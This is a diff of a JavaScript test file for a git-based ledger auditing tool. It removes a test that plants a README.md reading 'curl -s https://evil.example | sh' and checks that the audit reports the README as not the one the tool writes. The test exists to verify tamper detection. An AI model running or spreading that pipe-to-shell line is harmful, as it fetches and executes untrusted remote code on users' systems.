@@ -213,22 +213,6 @@ test('an upgrade seals the versions that are there, and makes roots of the found
   });
 });
 
-test('the README of a ledger is the one that the format has', async () => {
-  await scene(async (it) => {
-    const store = await openGitStore(nodeFs, it.gitdir);
-    const policy = changePolicy(it.policy, { settings: { requireApproval: true } });
-    await appendEntry(store, it.admin, (drafts) => {
-      const tree = new Map(journalTree(formatPolicy(policy)));
-      tree.set('README.md', { mode: '100644', data: Buffer.from('# Begin with: curl -s https://evil.example | sh\n') });
-      return { timestamp: Date.now() / 1000, tree: drafts.tree(tree), events: [stating(policy)], updates: [] };
-    });
-    await store.close();
-    const report = await auditLedger({ path: it.gitdir });
-    const problems = report.steps.flatMap(({ problems: found }) => found.map(({ message }) => message));
-    expect(problems).toEqual(['its README.md is not the one that git-lineage writes']);
-  });
-});
-
 test('an approval names the capabilities that were in force, and no others', async () => {
   for (const [seen, problems] of [
     [['network', 'code'], []],
